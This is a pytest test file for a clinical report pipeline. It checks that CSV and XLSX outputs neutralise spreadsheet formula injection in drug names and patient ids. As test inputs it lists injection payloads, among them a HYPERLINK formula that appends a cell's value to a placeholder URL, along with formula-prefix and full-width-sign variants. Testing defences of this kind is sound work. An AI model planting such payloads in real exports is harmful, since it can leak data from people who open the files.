"""CSV and XLSX cells that a spreadsheet would run as formulas are neutralised (OWASP CSV
injection): the payloads sit in drug names and patient ids of a real run, read back with the
csv module and openpyxl."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from hyposcreen.config import RunSettings, parse_window
from hyposcreen.report.safe_cells import (
    FIELDS_AT_ONCE,
    NUMERIC_ATTR,
    neutralise_frame,
    neutralise_text,
)
from hyposcreen.runners.in_process import run_pipeline

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "sample_data" / "canonical"
WINDOW = ("2026-11-20T00:00:00", "2026-11-21T00:00:00")
PAYLOADS = ['=HYPERLINK("http://x?"&C2,"y")', "+1+1", "@SUM(A1)", "-2+3", "\tcmd", "\rcmd",
            "＝1+1", "＋1", "－2+3", "＠SUM(A1)", "\n=1+1"]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_risky_text_gets_a_leading_quote(payload: str) -> None:
    assert neutralise_text(payload) == "'" + payload


@pytest.mark.parametrize("value", ["1e-3", "Furosemide", "", "'=x", 7, -5.0, "ｴ", "Na＝low"])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert neutralise_text(value) == value


@pytest.mark.parametrize(
    "payload", ["=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "-12", "＝1", "＋1", "－12", "＠1"]
)
def test_text_that_looks_like_a_number_is_text_too(payload: str) -> None:
    """'+1' and '-12' in a text column (a patient id) would be read as numbers and the id
    lost ('-0012' -> -12): text is neutralised whatever it looks like."""
    assert neutralise_text(payload) == "'" + payload
    frame = pd.DataFrame({"patient_id": [payload, "P001"]})
    assert neutralise_frame(frame)["patient_id"].tolist() == ["'" + payload, "P001"]


def test_frames_keep_numeric_columns_numeric() -> None:
    frame = pd.DataFrame(
        {"delta": [-5.0, 2.0], "drug": ["=cmd", "-2+3"], "n": [1, -2], "id": ["-5.0", "+3"],
         "shown": ["-5.0", "-1+1"]}
    )  # fmt: skip
    safe = neutralise_frame(frame, numeric=["shown"])
    assert safe["delta"].tolist() == [-5.0, 2.0] and safe["n"].tolist() == [1, -2]
    assert safe["drug"].tolist() == ["'=cmd", "'-2+3"]
    assert safe["id"].tolist() == ["'-5.0", "'+3"]  # text column: numbers-as-text neutralised
    assert safe["shown"].tolist() == ["-5.0", "'-1+1"]  # numeric column: only the formula
    assert frame["drug"].tolist() == ["=cmd", "-2+3"]  # the caller's frame is not changed
    # a trailing newline does not make a plain number of a formula-like text
    assert neutralise_frame(pd.DataFrame({"x": ["-1\n"]}), numeric=["x"])["x"].tolist() == ["'-1\n"]


NUMBER_TEXTS = {  # text in a column of numbers written as text -> what the CSV holds
    "-5.0": "-5.0",
    "-1E+05": "-1E+05",
    "+.5": "+.5",
    "-5.": "-5.",
    "-\u0663": "-\u0663",  # another script's digit: a number to Python's `re`, as pandas reads it
    "-5.0\n": "'-5.0\n",  # a final line feed: not a plain number
    "-": "'-",
    "-1,5": "'-1,5",
    "-5.0 ": "'-5.0 ",
    "=1": "'=1",
    "-1e": "'-1e",
}


@pytest.mark.parametrize("ascii_only", [False, True])
def test_plain_numbers_in_columns_of_numbers_as_text_stay_numbers(ascii_only: bool) -> None:
    # ASCII text without a line feed is matched by Arrow, any other by pandas: alike
    texts = {
        k: v for k, v in NUMBER_TEXTS.items() if not ascii_only or (k.isascii() and "\n" not in k)
    }
    frame = pd.DataFrame(
        {
            "delta": pd.Series([*texts, None], dtype="str"),
            "delta_objects": pd.Series([*texts, None], dtype=object),
            "patient_id": pd.Series([*texts, None], dtype="str"),
        }
    )
    frame.attrs[NUMERIC_ATTR] = ("delta",)
    safe = neutralise_frame(frame, numeric=("delta_objects",))
    expected = [*texts.values(), None]
    assert [None if pd.isna(v) else v for v in safe["delta"]] == expected
    assert [None if pd.isna(v) else v for v in safe["delta_objects"]] == expected
    assert safe["patient_id"].tolist()[:-1] == ["'" + t for t in texts]
    assert safe.attrs == frame.attrs


def test_categorical_text_is_neutralised_as_plain_text() -> None:
    """A categorical column of extract text (a category per distinct text) gets the same
    cells as the same text held plainly, unused and missing categories included; a
    categorical column with no risky category is left as it is."""
    values = ["=cmd", "P001", None, "-0012", "=cmd", "-5.0"]
    categories = ["=cmd", "P001", "-0012", "-5.0", "@unused"]
    frame = pd.DataFrame(
        {
            "id": pd.Categorical(values, categories=categories),
            "shown": pd.Categorical(values, categories=categories),
            "plain": pd.Categorical(["a", "b", None, "a", "a", "b"]),
        }
    )
    safe = neutralise_frame(frame, numeric=["shown"])[["id", "shown"]].fillna("<missing>")
    assert safe["id"].tolist() == ["'=cmd", "P001", "<missing>", "'-0012", "'=cmd", "'-5.0"]
    assert safe["shown"].tolist() == ["'=cmd", "P001", "<missing>", "-0012", "'=cmd", "-5.0"]
    assert neutralise_frame(frame[["plain"]]) is not None
    assert neutralise_frame(frame[["plain"]])["plain"].equals(frame["plain"])
    plain_text = frame[["id", "shown"]].astype(object)
    expected = neutralise_frame(plain_text, numeric=["shown"]).fillna("<missing>")
    assert safe[["id", "shown"]].values.tolist() == expected.values.tolist()


def test_a_long_frame_is_neutralised_as_a_short_one() -> None:
    """Short frames' Arrow text is tested all columns at once, long ones' a column at a
    time: each cell comes out the same."""
    short = pd.DataFrame(
        {"drug": ["=cmd", "ok", None, "@x"], "id": ["-5.0", "+3", "P1", "\tA"],
         "shown": ["-5.0", "-1+1", "", "=2"], "n": [1, -2, 3, 4]}
    ).astype({"drug": "str", "id": "str", "shown": "str"})  # fmt: skip
    repeats = FIELDS_AT_ONCE // len(short) + 1  # 3 text columns: well over the cells at once
    long = pd.concat([short] * repeats, ignore_index=True)
    once = neutralise_frame(short, numeric=["shown"])
    assert once["drug"].tolist()[::3] == ["'=cmd", "'@x"] and once["shown"][1] == "'-1+1"
    expected = pd.concat([once] * repeats, ignore_index=True)
    pd.testing.assert_frame_equal(neutralise_frame(long, numeric=["shown"]), expected)


@pytest.fixture(scope="module")
def injected_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample with payloads as the drug names of listed patients and as a patient id."""
    folder = tmp_path_factory.mktemp("injected")
    tables = {n: pd.read_csv(SAMPLE / f"{n}.csv", dtype=str, keep_default_na=False)
              for n in ("labs", "medications", "diagnoses", "patients")}  # fmt: skip
    meds = tables["medications"]
    for position, payload in enumerate(PAYLOADS):
        meds.loc[position, "drug_name"] = payload + " furosemide 40 mg"
    # one listed patient gets a risky id everywhere
    old = "P001"
    new = '=HYPERLINK("http://x?"&C2,"y")'
    for frame in tables.values():
        frame.loc[frame["patient_id"] == old, "patient_id"] = new
    inputs = folder / "in"
    inputs.mkdir()
    for name, frame in tables.items():
        frame.to_csv(inputs / f"{name}.csv", index=False)
    out = folder / "out"
    run_pipeline(RunSettings(input_dir=inputs, out_dir=out, window=parse_window(*WINDOW)))
    return next(out.rglob("review_list.csv")).parent


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_csv_cell_starts_like_a_formula(injected_out: Path) -> None:
    written = {p.name: _cells(p) for p in sorted(injected_out.glob("*.csv"))}
    assert {"review_list.csv", "evidence.csv", "quarantine.csv"} <= set(written)
    everything = [c for cells in written.values() for c in cells]
    assert any(c.startswith("'=HYPERLINK") for c in everything)  # the payload is there, inert
    risky = [
        (name, c) for name, cells in written.items() for c in cells
        if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))
    ]  # fmt: skip
    assert risky == []


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_xlsx_stores_text_as_text_and_no_formula(injected_out: Path) -> None:
    book = load_workbook(injected_out / "review_list.xlsx")
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert cell.value[:1] not in ("=", "+", "@", "\t", "\r")
                    seen.append(cell.value)
    assert any(v.startswith("'=HYPERLINK") for v in seen)
    sheet = book["Review list"]
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
    assert sheet.print_title_rows == "$1:$1"
    assert sheet["A1"].value == "Rank" and sheet["C1"].value == "Patient"


# the brief's payloads, as patient ids of listed patients (a text column everywhere)
ID_PAYLOADS = {"P003": "=1+1", "P004": "+1", "P005": "-1+1", "P006": "@SUM(1)",
               "P007": "\t=1", "P009": "\r=1", "P010": "-0012"}  # fmt: skip


@pytest.fixture(scope="module")
def id_payload_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Payload patient ids, a payload lab value (quarantined) and a malformed raw line that
    starts with `=` (quarantined with its original text)."""
    folder = tmp_path_factory.mktemp("id_payloads")
    inputs = folder / "in"
    inputs.mkdir()
    for name in ("labs", "medications", "diagnoses", "patients"):
        frame = pd.read_csv(SAMPLE / f"{name}.csv", dtype=str, keep_default_na=False)
        frame["patient_id"] = frame["patient_id"].replace(ID_PAYLOADS)
        if name == "labs":
            frame.loc[frame.index[0], "value_raw"] = "=1+1"
        text = frame.to_csv(index=False)
        if name == "labs":
            text += "=1+1,@SUM(1),-1+1\n"  # too few fields: a malformed row
        (inputs / f"{name}.csv").write_text(text, encoding="utf-8")
    out = folder / "out"
    run_pipeline(RunSettings(input_dir=inputs, out_dir=out, window=parse_window(*WINDOW)))
    return next(out.rglob("review_list.csv")).parent


NUMERIC_CSV_COLUMNS = {"index_sodium", "corrected_sodium", "latest_sodium", "delta_48h",
                       "index_glucose", "rank", "tier", "n_low_results", "source_row"}  # fmt: skip


def _risky_cells(path: Path, numeric: set[str]) -> list[tuple[str, str]]:
    """(column, cell) of every cell a spreadsheet would read as a formula or, in a text
    column, as a number."""
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    found = []
    for row in rows:
        for column, cell in row.items():
            if not cell or cell[0] not in "=+-@\t\r":
                continue
            if column in numeric and _number(cell):
                continue
            found.append((column, cell))
    return found


def test_payload_ids_values_and_raw_lines_are_neutralised_in_every_csv(
    id_payload_out: Path,
) -> None:
    review = pd.read_csv(id_payload_out / "review_list.csv", dtype=str, keep_default_na=False)
    ids = set(review["patient_id"])
    # the payload ids are listed and written inert, each with its leading quote
    assert {"'=1+1", "'+1", "'-1+1", "'@SUM(1)", "'-0012"} <= ids
    assert not any(i.startswith(("=", "+", "-", "@", "\t", "\r")) for i in ids)
    quarantine = (id_payload_out / "quarantine.csv").read_text(encoding="utf-8")
    assert "=1+1,@SUM(1),-1+1" in quarantine or "@SUM(1)" in quarantine  # the raw row is kept
    for name in ("review_list.csv", "evidence.csv", "quarantine.csv"):
        assert _risky_cells(id_payload_out / name, NUMERIC_CSV_COLUMNS) == [], name
    # numbers in numeric columns stay numbers (a fall over 48 h is negative)
    assert review["delta_48h"].str.startswith("-").any()
    assert not review["delta_48h"].str.startswith("'").any()


def test_the_workbook_keeps_payload_ids_as_inert_text(id_payload_out: Path) -> None:
    sheet = load_workbook(id_payload_out / "review_list.xlsx")["Review list"]
    ids = {row[2] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert {"'+1", "'-0012", "'=1+1"} <= ids
    numbers = [row[8] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(v is None or isinstance(v, float | int) for v in numbers)  # delta_48h


def test_audit_tables_keep_numbers_and_neutralise_text(tmp_path: Path) -> None:
    from hyposcreen.audit import AuditSettings, run_audit

    run_audit(AuditSettings(input_dir=SAMPLE, out_dir=tmp_path, start=pd.Timestamp("2026-10-01"),
                            end=pd.Timestamp("2026-12-01")))  # fmt: skip
    assert _risky_cells(tmp_path / "audit_tables.csv", {"value", "numerator", "denominator"}) == []
    tables = pd.read_csv(tmp_path / "audit_tables.csv")
    assert pd.api.types.is_numeric_dtype(tables["value"])  # counts and shares stay numbers


@pytest.mark.parametrize("site", ["=cmd", None, 5])
def test_the_workbook_about_sheet_and_headers_neutralise_their_texts(site: object) -> None:
    # the About sheet's texts and the headers are few: each is neutralised on its own, and
    # a value that is not text goes through the frame neutraliser as before
    from hyposcreen.report.spreadsheet import _about_sheet, _review_sheet
    from hyposcreen.report.xlsx_styles import Styles

    about = _about_sheet({"site": site, "run_id": "-12", "profile": "plain"}, Styles())  # type: ignore[dict-item]
    assert "<t>'-12</t>" in about and "<t>plain</t>" in about and "<f>" not in about
    if site == "=cmd":
        assert "<t>'=cmd</t>" in about
    review = pd.DataFrame({"=evil": ["a"], "tier": [1]})
    sheet = "".join(_review_sheet(review, Styles(), ""))
    assert "<t>'=evil</t>" in sheet and "<f>" not in sheet


def test_full_width_signs_in_arrow_text_are_neutralised() -> None:
    """Arrow text is judged on its first bytes: a full-width sign is three of them (0xEF
    first), shared with other full-width and half-width letters that are no sign."""
    texts = ["＝1", "＋", "－P3", "＠A1", "ｴ", "！x", "a＝1", "Ｐ001", None]
    frame = pd.DataFrame({"patient_id": pd.Series(texts, dtype="string[pyarrow]")})
    shown = neutralise_frame(frame)["patient_id"].tolist()
    assert shown[:8] == ["'＝1", "'＋", "'－P3", "'＠A1", "ｴ", "！x", "a＝1", "Ｐ001"]
    assert pd.isna(shown[8])


# A sign after blanks: a spreadsheet import that trims cells (LibreOffice's "Trim spaces")
# reads " =1+1" as =1+1 and runs it. No-break and ideographic spaces are blanks too.
AFTER_BLANKS = [" =1+1", "  @SUM(A1)", " -2+3", "\u00a0+1", "\u3000=1", " ＝1", "\v=1", " \t=1"]


@pytest.mark.parametrize("payload", AFTER_BLANKS)
def test_a_formula_sign_after_blanks_is_neutralised(payload: str) -> None:
    assert neutralise_text(payload) == "'" + payload
    for dtype in ("string[pyarrow]", "string[python]", object):
        frame = pd.DataFrame({"drug_name": pd.Series([payload, " Furosemide", None], dtype=dtype)})
        shown = neutralise_frame(frame)["drug_name"].tolist()
        assert shown[:2] == ["'" + payload, " Furosemide"], dtype


@pytest.mark.parametrize("value", [" Furosemide", "  ", " 1 =2", "a =1", "\u00a0Lasix", "\u2003x"])
def test_blanks_before_plain_text_change_nothing(value: str) -> None:
    assert neutralise_text(value) == value
    frame = pd.DataFrame({"drug_name": pd.Series([value], dtype="string[pyarrow]")})
    assert neutralise_frame(frame)["drug_name"].tolist() == [value]
